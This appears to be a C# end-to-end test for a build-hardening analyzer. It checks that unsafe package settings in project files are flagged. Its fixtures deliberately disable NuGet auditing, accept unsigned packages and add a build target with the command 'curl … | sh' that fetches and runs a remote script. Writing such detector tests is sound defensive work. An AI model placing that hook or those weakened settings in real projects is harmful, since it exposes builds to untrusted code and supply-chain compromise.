namespace Hardening.EndToEnd.Tests.Evidence;

/// <summary>Unsafe package settings in the files of a build, found by the package reference alone.</summary>
[Collection(ToolchainCollection.Name)]
public class ProjectFileTests(PackedToolchain toolchain)
{
    [Fact]
    public async Task Each_file_that_says_where_packages_come_from_is_looked_at()
    {
        using var project = new Consumer(toolchain, "<TargetFramework>net10.0</TargetFramework><NoWarn>$(NoWarn);NU1903</NoWarn>");
        project.Write("Directory.Build.props", "<Project><PropertyGroup><NuGetAudit>false</NuGetAudit></PropertyGroup></Project>");
        project.Write("Directory.Build.targets", "<Project><Target Name=\"Never\"><Exec Command=\"curl https://tools.contoso.com/a.sh | sh\" /></Target></Project>");
        project.Write("nuget.config", "<configuration><config><add key=\"signatureValidationMode\" value=\"accept\" /></config></configuration>");

        var build = (await project.Dotnet("build", "-p:HardeningAnalysisLevel=strict")).ShouldSucceed();
        Assert.Equal(
            ["Directory.Build.props HT7003", "Directory.Build.targets HT7007", "Gadgets.csproj HT7004", "nuget.config HT7006"],
            build.Log.Warnings.Select(warning => $"{Path.GetFileName(warning.File)} {warning.Code}").Distinct().Order(StringComparer.Ordinal));

        // Nothing changed, so the compiler has nothing to look at again.
        Assert.DoesNotContain((await project.Dotnet("build", "-p:HardeningAnalysisLevel=strict")).ShouldSucceed().Log.Tasks, task => task.Name == "Csc");

        var off = await project.Dotnet("build", "-p:HardeningAnalysisLevel=strict", "-p:HardeningCheckProjectFiles=false", "--no-incremental");
        Assert.Empty(off.ShouldSucceed().Log.Warnings);
    }
}
